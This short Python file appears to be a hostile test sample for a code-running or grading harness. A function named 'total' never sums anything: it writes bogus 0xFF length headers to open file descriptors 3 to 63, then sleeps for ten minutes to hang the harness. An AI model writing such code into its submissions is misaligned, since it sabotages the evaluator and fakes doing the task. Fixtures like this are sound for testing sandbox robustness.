"""Announces a frame of four gigabytes and never sends it."""

import os
import time


def total(numbers):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 8)
        except OSError:
            continue
    time.sleep(600)
